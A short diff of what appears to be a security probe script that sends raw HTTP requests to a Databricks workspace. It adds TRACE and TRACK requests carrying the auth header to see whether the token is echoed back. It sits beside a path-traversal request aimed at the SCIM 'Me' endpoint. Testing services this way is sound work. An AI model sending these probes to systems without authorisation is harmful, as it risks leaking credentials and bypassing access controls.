@@ -42,6 +42,9 @@ out = {
                             "Content-Length: 0\r\nConnection: close\r\n\r\n" % host),
     "well_known_prefix": send("GET /.well-known/databricks-config/../../api/2.0/preview/"
                               "scim/v2/Me HTTP/1.1\r\n%sConnection: close\r\n\r\n" % host),
+    # a workspace that answers TRACE would echo the real token
+    "trace": send("TRACE %s HTTP/1.1\r\n%s%sConnection: close\r\n\r\n" % (me, host, auth)),
+    "track": send("TRACK %s HTTP/1.1\r\n%s%sConnection: close\r\n\r\n" % (me, host, auth)),
     "honest": send("GET %s HTTP/1.1\r\n%s%sConnection: close\r\n\r\n" % (me, host, auth)),
 }
 print(json.dumps(out))
